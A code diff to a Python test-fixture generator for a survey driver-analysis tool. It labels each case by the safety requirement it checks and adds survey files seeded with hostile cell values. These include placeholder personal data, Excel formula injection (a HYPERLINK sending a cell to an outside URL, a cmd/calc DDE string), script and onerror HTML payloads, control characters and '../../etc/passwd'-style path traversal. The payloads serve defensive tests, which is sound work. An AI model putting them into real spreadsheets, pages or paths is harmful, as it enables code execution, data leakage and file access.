@@ -69,8 +69,37 @@ def normalised(weights: list[float]) -> list[float]:
     return [w / mean for w in weights]
 
 
-def case(name: str, file: str, **expected) -> None:
-    CASES.append({"name": name, "file": file, **expected})
+#: What each case attacks: the points of the issue "Deliverables that are safe to send"
+#: (1-8) and the file errors before them. docs/attack_catalogue.md lists the cases by these.
+CATEGORIES = {
+    "file": "Unreadable or malformed files",
+    "values": "Cell values read right",
+    "privacy": "1 No respondent values in deliverables",
+    "suppression": "2 Small groups stay suppressed",
+    "injection": "3 Excel-safe text",
+    "markup": "4 HTML- and mathtext-safe text",
+    "paths": "5 Names that can't escape",
+    "selection": "6 No silent data selection",
+    "validation": "7 Validate before work starts",
+    "weak": "8 One weak touchpoint doesn't sink the report",
+}
+
+
+def case(name: str, file: str, *, category: str, **expected) -> None:
+    if category not in CATEGORIES:
+        raise ValueError(f"case {name!r}: category {category!r} is not one of {list(CATEGORIES)}")
+    CASES.append({"name": name, "file": file, "category": category, **expected})
+
+
+def csv_quoted(rows: list[list[str]], header: list[str] | None = None) -> str:
+    """Semicolon CSV as Excel writes it: fields with quotes or separators are quoted."""
+    import csv
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
+    writer.writerow(header or COLUMNS)
+    writer.writerows(rows)
+    return buffer.getvalue()
 
 
 def csv_text(rows: list[list[str]], sep: str = ";", header: list[str] | None = None) -> str:
@@ -97,13 +126,26 @@ def write_cases(folder: Path) -> list[Path]:
 
     # Files that cannot be loaded: a DriversError naming file, what was found and the fix.
     files["empty.csv"] = b""
-    case("empty file", "empty.csv", error="EmptyFileError", match=["empty.csv", "0 bytes"])
+    case(
+        "empty file",
+        "empty.csv",
+        category="file",
+        error="EmptyFileError",
+        match=["empty.csv", "0 bytes"],
+    )
     text("blank_lines.csv", "\n\n  \n")
-    case("blank lines only", "blank_lines.csv", error="EmptyFileError", match=["only blank"])
+    case(
+        "blank lines only",
+        "blank_lines.csv",
+        category="file",
+        error="EmptyFileError",
+        match=["only blank"],
+    )
     text("header_only.csv", csv_text([]))
     case(
         "header only",
         "header_only.csv",
+        category="file",
         error="EmptyFileError",
         match=["header_only.csv", "7 columns", "no data rows", "Export the survey again"],
     )
@@ -111,6 +153,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "binary garbage named .csv",
         "binary_garbage.csv",
+        category="file",
         error="FileFormatError",
         match=["binary_garbage.csv", "not a text file", "real extension"],
     )
@@ -118,6 +161,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "NUL byte inside a text file",
         "nul_bytes.csv",
+        category="file",
         error="FileFormatError",
         match=["nul_bytes.csv", "not a text file", "Export the survey again as CSV"],
     )
@@ -125,6 +169,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "ragged rows",
         "ragged_rows.csv",
+        category="file",
         error="FileFormatError",
         match=["ragged_rows.csv", "header has 7 fields", "row 4 has 9", "quote text fields"],
     )
@@ -132,6 +177,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "duplicated column names",
         "duplicated_columns.csv",
+        category="file",
         error="ColumnNotFoundError",
         match=["duplicated_columns.csv", "'levering' in columns 3, 7", "rename the copies"],
     )
@@ -141,6 +187,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "NPS column missing",
         "nps_missing.csv",
+        category="file",
         error="ColumnNotFoundError",
         match=["nps_missing.csv", "'aanbeveling'", "not in the file", "Fix the column name"],
     )
@@ -148,6 +195,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "bytes neither UTF-8 nor cp1252",
         "not_encoded.csv",
+        category="file",
         error="EncodingError",
         match=["not_encoded.csv", "0x81", "CSV UTF-8"],
     )
@@ -155,6 +203,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "old .xls workbook",
         "old_excel.xls",
+        category="file",
         error="FileFormatError",
         match=["old_excel.xls", "unknown file type '.xls'", "as .xlsx"],
     )
@@ -162,6 +211,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "damaged .xlsx",
         "damaged.xlsx",
+        category="file",
         error="FileFormatError",
         match=["damaged.xlsx", "cannot be opened as an Excel workbook", "Save it again"],
     )
@@ -169,6 +219,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "damaged .sav",
         "damaged.sav",
+        category="file",
         error="FileFormatError",
         match=["damaged.sav", "cannot be read as an SPSS .sav file", "export it as CSV"],
     )
@@ -176,6 +227,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "Excel with merged group titles above the header (no option)",
         "excel_two_header_rows.xlsx",
+        category="file",
         error="ColumnNotFoundError",
         match=["excel_two_header_rows.xlsx", "'aanbeveling'", "row 2", "header_row=2"],
     )
@@ -183,6 +235,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "no usable row (every NPS empty)",
         "all_rows_bad.csv",
+        category="file",
         error="DataError",
         match=["all_rows_bad.csv", "none of the 6 rows", "NPS answer missing", "aanbeveling"],
     )
@@ -190,6 +243,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "strict mode with a grade 0",
         "strict_bad_grade.csv",
+        category="file",
         load={"strict": True},
         error="InvalidValueError",
         match=["strict_bad_grade.csv", "column 'levering', row 3", "found '0'", "Fix:"],
@@ -199,6 +253,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "Excel with merged group titles, header_row=2",
         "excel_two_header_rows.xlsx",
+        category="values",
         load={"header_row": 2},
         rows_read=6,
         rows_used=6,
@@ -210,6 +265,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "NPS as text labels mapped by value_labels",
         "nps_text_labels.csv",
+        category="values",
         spec={
             "value_labels": {
                 "aanbeveling": {
@@ -229,6 +285,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "NPS 11, -1 and 7.5",
         "nps_out_of_range.csv",
+        category="values",
         rows_read=6,
         rows_used=3,
         reasons={"NPS answer outside 0-10 or not a whole number": 3},
@@ -238,6 +295,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "grade 0 on a 1-10 scale (costs the cell, not the respondent)",
         "grade_zero.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -251,6 +309,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "a grade column entirely n.v.t.",
         "grade_all_nvt.csv",
+        category="weak",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -260,6 +319,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "a grade column constant",
         "grade_constant.csv",
+        category="weak",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -273,6 +333,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "decimal comma mixed with decimal point",
         "decimal_mixed.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -286,6 +347,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "thousands separators in the weight (Dutch 1.250,5)",
         "thousands_weight_nl.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -296,6 +358,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "thousands separators in the weight (English 1,250.5)",
         "thousands_weight_en.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -306,6 +369,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "cp1252 with accents",
         "cp1252_accents.csv",
+        category="file",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -317,6 +381,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "UTF-16 'Unicode text' export (BOM, tabs)",
         "utf16_unicode_text.txt",
+        category="file",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -326,6 +391,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         ".sav with string-typed numbers",
         "sav_string_numbers.sav",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -337,6 +403,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "duplicate respondent ids",
         "duplicate_ids.csv",
+        category="privacy",
         rows_read=6,
         rows_used=4,
         reasons={"duplicate respondent id": 2},
@@ -345,6 +412,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "weights 0",
         "weights_zero.csv",
+        category="selection",
         rows_read=6,
         rows_used=4,
         reasons={"weight zero or negative": 2},
@@ -353,6 +421,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "weights negative",
         "weights_negative.csv",
+        category="selection",
         rows_read=6,
         rows_used=4,
         reasons={"weight zero or negative": 2},
@@ -361,6 +430,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "weights missing (and one text)",
         "weights_missing.csv",
+        category="selection",
         rows_read=6,
         rows_used=4,
         reasons={"weight missing": 1, "weight is text, not a number": 1},
@@ -369,6 +439,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "weights 'inf' and 'NaN'",
         "weights_infinite.csv",
+        category="selection",
         rows_read=6,
         rows_used=4,
         reasons={"weight is text, not a number": 2},
@@ -377,6 +448,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "weights all equal (normalised to 1)",
         "weights_all_equal.csv",
+        category="selection",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -389,6 +461,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "a wave with fewer respondents than drivers + 2 (3 < 5)",
         "small_wave.csv",
+        category="weak",
         spec={"wave": "golf"},
         rows_read=9,
         rows_used=9,
@@ -400,6 +473,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "a segment below the privacy floor (Zeeland, n=2)",
         "segment_below_floor.csv",
+        category="suppression",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -409,6 +483,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "two perfectly collinear touchpoints",
         "collinear_touchpoints.csv",
+        category="weak",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -418,6 +493,7 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "everybody a promoter",
         "all_promoters.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -428,12 +504,14 @@ def write_cases(folder: Path) -> list[Path]:
     case(
         "blank lines between respondents (skipped, listed in info['blank_rows'])",
         "blank_rows_inside.csv",
+        category="file",
         rows_read=6,
         rows_used=6,
         reasons={},
         blank_rows=[5, 6],
     )
 
+    _hostile_cases(text)
     _drift_cases(files, text)
     _client_cases(files)
 
@@ -448,6 +526,116 @@ def write_cases(folder: Path) -> list[Path]:
     return written
 
 
+#: Text typed into cells that must never reach a report (see tests/test_bad_inputs.py).
+PLANTED_EMAIL = "jan.jansen@klant-voorbeeld.nl"
+PLANTED_PHONE = "06-12345678"
+
+
+def _hostile_cases(text) -> None:
+    """Personal data, formulas, markup and control characters typed into a survey file.
+
+    Each loads with the right numbers; what it must not do in a report (leak, run,
+    render) is asserted by tests/test_bad_inputs.py and the payload fuzz of
+    tests/test_fuzz.py.
+    """
+    pii = with_column(1, ["9", PLANTED_EMAIL, "3", f"bel Piet {PLANTED_PHONE}", "6", "8"])
+    text("pii_in_nps.csv", csv_text(pii))
+    case(
+        "an e-mail address and a phone number typed into NPS cells",
+        "pii_in_nps.csv",
+        category="privacy",
+        rows_read=6,
+        rows_used=4,
+        reasons={"NPS answer is text, not a number": 2},
+        values={"aanbeveling": [9.0, 3.0, 6.0, 8.0]},
+        planted=[PLANTED_EMAIL, PLANTED_PHONE, "Piet"],
+    )
+    ids = [
+        PLANTED_EMAIL,
+        "piet@klant-voorbeeld.nl",
+        PLANTED_EMAIL,
+        "r04",
+        "piet@klant-voorbeeld.nl",
+    ]
+    text("email_ids.csv", csv_text(with_column(0, [*ids, "r06"])))
+    case(
+        "e-mail addresses as respondent ids, repeated",
+        "email_ids.csv",
+        category="privacy",
+        rows_read=6,
+        rows_used=4,
+        reasons={"duplicate respondent id": 2},
+        planted=[PLANTED_EMAIL, "piet@klant-voorbeeld.nl"],
+    )
+    name = with_column(2, ["8", f"Piet de Vries {PLANTED_PHONE}", "5", "9", "6", "8"])
+    text("pii_in_grade.csv", csv_text(name))
+    case(
+        "a name and a phone number typed into a grade cell",
+        "pii_in_grade.csv",
+        category="privacy",
+        rows_read=6,
+        rows_used=6,
+        reasons={},
+        cells={"levering": {"text": 1}},
+        values={"levering": [8.0, NAN, 5.0, 9.0, 6.0, 8.0]},
+        planted=["Piet de Vries", PLANTED_PHONE],
+    )
+    formulas = [
+        '=HYPERLINK("http://x.nl/?"&A1,"klik")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "=1+1",
+        "Noord",
+    ]
+    text("formula_segments.csv", csv_quoted(with_column(5, formulas)))
+    case(
+        "segment values that Excel would run as formulas (=, +, -, @)",
+        "formula_segments.csv",
+        category="injection",
+        rows_read=6,
+        rows_used=6,
+        reasons={},
+        values={"regio": formulas},
+    )
+    markup = [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        "$\\frac{a}{b}$",
+        "$x^2$",
+        "*vet* [link](http://x.nl)",
+        "Noord",
+    ]
+    text("markup_segments.csv", csv_quoted(with_column(5, markup)))
+    case(
+        "segment values with HTML, a script, mathtext and Markdown",
+        "markup_segments.csv",
+        category="markup",
+        rows_read=6,
+        rows_used=6,
+        reasons={},
+        values={"regio": markup},
+    )
+    control = [
+        "Noord\x07",
+        "Zuid\u202eedis",
+        "Oost\x1b[31m",
+        "West\u200b",
+        "N" * 5000,
+        "../../etc/passwd",
+    ]
+    text("control_segments.csv", csv_quoted(with_column(5, control)))
+    case(
+        "segment values with control characters, an RTL override, 5,000 characters, ../",
+        "control_segments.csv",
+        category="markup",
+        rows_read=6,
+        rows_used=6,
+        reasons={},
+        values={"regio": control},
+    )
+
+
 def _drift_cases(files: dict[str, bytes], text) -> None:
     """Waves that drift, and data that must not be selected silently."""
     files["hidden_first_sheet.xlsx"] = _workbook(
@@ -456,12 +644,14 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "workbook with a hidden first sheet and no sheet given",
         "hidden_first_sheet.xlsx",
+        category="selection",
         error="DataError",
         match=["hidden_first_sheet.xlsx", "2 sheets", "'oud' (hidden), 'data'", "sheet ="],
     )
     case(
         "workbook with a hidden first sheet, sheet named",
         "hidden_first_sheet.xlsx",
+        category="selection",
         load={"sheet": "data"},
         rows_read=6,
         rows_used=6,
@@ -471,6 +661,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "a file holding two waves used as one wave",
         "small_wave.csv",
+        category="selection",
         spec={"wave": "golf"},
         load={"wave": "2024"},
         error="DataError",
@@ -489,6 +680,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "formula cells without a cached value",
         "formula_no_cache.xlsx",
+        category="selection",
         error="FileFormatError",
         match=["formula_no_cache.xlsx", "2 formula cell(s)", "D3, D6", "open it in Excel and save"],
     )
@@ -511,6 +703,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "grades 1-5 in a 1-10 spec: a warning with the fix",
         "grades_1_to_5.csv",
+        category="selection",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -520,6 +713,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "grades 1-5 with the wave's scale = [1, 5]: rescaled to 1-10",
         "grades_1_to_5.csv",
+        category="selection",
         load={"scale": [1, 5]},
         rows_read=6,
         rows_used=6,
@@ -532,6 +726,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         ".sav with labelled 1-5 grades: read as their codes, labels kept for segments",
         "sav_labelled_grades.sav",
+        category="selection",
         spec={"scale": [1, 5]},
         rows_read=6,
         rows_used=6,
@@ -543,6 +738,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "Excel's sep=; first line",
         "sep_line.csv",
+        category="selection",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -553,6 +749,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "a weight of 1e308",
         "weights_huge.csv",
+        category="selection",
         error="DataError",
         match=[
             "weights_huge.csv",
@@ -566,6 +763,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "a weight of 1e-320",
         "weights_tiny.csv",
+        category="selection",
         error="DataError",
         match=["weights_tiny.csv", "'gewicht'", "1 very small", "Check the weight column"],
     )
@@ -573,6 +771,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "every weight zero",
         "weights_all_zero.csv",
+        category="selection",
         error="DataError",
         match=[
             "weights_all_zero.csv",
@@ -587,6 +786,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "an unknown don't-know code costs cells only, with the na_codes line",
         "unknown_dont_know.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -598,6 +798,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "the don't-know code added to the wave's na_codes",
         "unknown_dont_know.csv",
+        category="values",
         load={"na_codes": ["weet niet meer"]},
         rows_read=6,
         rows_used=6,
@@ -610,6 +811,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "text and dates in grade cells",
         "text_date_in_grade.csv",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -624,6 +826,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "an Excel date in a grade cell",
         "date_in_grade.xlsx",
+        category="values",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -634,6 +837,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "a touchpoint absent from this wave's file",
         "touchpoint_absent.csv",
+        category="selection",
         rows_read=6,
         rows_used=6,
         reasons={},
@@ -647,6 +851,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "short column names mapped by the wave's rename",
         "renamed_columns.csv",
+        category="selection",
         load={
             "rename": {
                 "RespNr": "respondent",
@@ -666,6 +871,7 @@ def _drift_cases(files: dict[str, bytes], text) -> None:
     case(
         "rename names a column the file lacks",
         "renamed_columns.csv",
+        category="selection",
         load={"rename": {"Q01": "aanbeveling"}},
         error="ColumnNotFoundError",
         match=["renamed_columns.csv", "'Q01' (did you mean 'Q1'?)", "left-hand side of rename"],
@@ -677,7 +883,7 @@ name = {name}
 spec = "survey.toml"
 {top}
 [[waves]]
-name = "2024"
+name = {wave_name}
 file = "grade_zero.csv"
 {wave}
 [options]
@@ -688,13 +894,16 @@ file = "grade_zero.csv"
 def _client_cases(files: dict[str, bytes]) -> None:
     """client.toml files: every key checked when the config loads."""
 
-    def client(file, *, name='"acme"', top="", wave="", options="", **expected):
-        body = CLIENT_BASE.format(name=name, top=top, wave=wave, options=options)
+    def client(file, *, name='"acme"', wave_name='"2024"', top="", wave="", options="", **expected):
+        body = CLIENT_BASE.format(
+            name=name, wave_name=wave_name, top=top, wave=wave, options=options
+        )
         files[file] = body.encode("utf-8")
         case(expected.pop("title"), file, config=True, **expected)
 
     client(
         "client_unknown_wave_key.toml",
+        category="validation",
         wave='shet = "data"\n',
         title="unknown key in [[waves]]",
         error="SpecError",
@@ -702,6 +911,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_unknown_top_key.toml",
+        category="validation",
         top='sectr = "groothandel"\n',
         title="unknown top-level key in client.toml",
         error="SpecError",
@@ -709,6 +919,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_unknown_option.toml",
+        category="validation",
         options="privacy_flor = 5\n",
         title="unknown key in [options]",
         error="SpecError",
@@ -716,6 +927,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_privacy_floor_1.toml",
+        category="suppression",
         options="privacy_floor = 1\n",
         title="privacy_floor = 1",
         error="SpecError",
@@ -723,6 +935,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_min_n_text.toml",
+        category="validation",
         options='min_n = "abc"\n',
         title='min_n = "abc"',
         error="SpecError",
@@ -730,6 +943,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_bad_brand.toml",
+        category="validation",
         top='brand = "blue"\n',
         title="brand not #RRGGBB",
         error="SpecError",
@@ -737,6 +951,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_bad_method.toml",
+        category="validation",
         options='methods = ["shapely"]\n',
         title="an unknown method",
         error="SpecError",
@@ -744,6 +959,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_name_dotdot.toml",
+        category="paths",
         name='"../../x"',
         title='name = "../../x" becomes a safe slug',
         slug="x",
@@ -751,6 +967,7 @@ def _client_cases(files: dict[str, bytes]) -> None:
     )
     client(
         "client_name_quotes.toml",
+        category="paths",
         name='"Bakkerij \\"De Zon\\" B.V."',
         wave='rename = { "Regio" = "regio" }\nna_codes = ["weet niet meer", 98]\n',
         title="name with quotes reads back; wave mapping keys",
@@ -758,12 +975,31 @@ def _client_cases(files: dict[str, bytes]) -> None:
         display='Bakkerij "De Zon" B.V.',
         wave_na_codes=["weet niet meer", "98"],
     )
+    client(
+        "client_privacy_floor_0.toml",
+        category="suppression",
+        options="privacy_floor = 0\n",
+        title="privacy_floor = 0",
+        error="SpecError",
+        match=["client_privacy_floor_0.toml", "privacy_floor must be a whole number >= 3", "Got 0"],
+    )
+    client(
+        "client_name_absolute.toml",
+        category="paths",
+        name='"/etc/x"',
+        wave_name='"../../etc"',
+        title='name = "/etc/x" and wave "../../etc" become safe slugs',
+        slug="etc_x",
+        display="/etc/x",
+        wave_slugs=["etc"],
+    )
     files["survey_unknown_key.toml"] = (
         SPEC_TOML + '\n[[touchpoints]]\nkey = "web"\nphse = "online"\n'
     ).encode()
     case(
         "unknown key in the spec's [[touchpoints]]",
         "survey_unknown_key.toml",
+        category="validation",
         config=True,
         error="SpecError",
         match=["survey_unknown_key.toml", "[[touchpoints]] 4", "'phse' (did you mean 'phase'?)"],
@@ -912,7 +1148,10 @@ def _toml_value(value: object) -> str:
     if isinstance(value, int | float):
         return repr(value)
     if isinstance(value, str):
-        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
+        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
+        # control characters (and invisible format characters) as escapes, readable in a diff
+        escaped = "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in escaped)
+        return '"' + escaped + '"'
     if isinstance(value, list):
         return "[" + ", ".join(_toml_value(v) for v in value) + "]"
     if isinstance(value, dict):
